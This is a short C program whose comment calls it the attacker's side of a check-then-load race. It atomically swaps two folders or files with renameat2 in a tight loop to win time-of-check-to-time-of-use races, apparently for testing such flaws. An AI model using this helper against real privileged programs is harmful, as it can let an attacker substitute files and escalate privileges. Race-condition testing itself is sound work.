/*
 * The attacker's side of the check-then-load race: swap two folders (or files) with
 * renameat2(RENAME_EXCHANGE) as fast as possible for a number of seconds.
 * Usage: swap_loop A B SECONDS. Prints how many swaps succeeded and the last error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    time_t end = time(NULL) + atoi(argv[3]);
    long swaps = 0, failures = 0;
    int last_error = 0;
    while (time(NULL) < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) {
            swaps++;
        } else {
            failures++;
            last_error = errno;
        }
    }
    printf("swaps %ld failures %ld last_error %s\n", swaps, failures, last_error ? strerror(last_error) : "none");
    return 0;
}
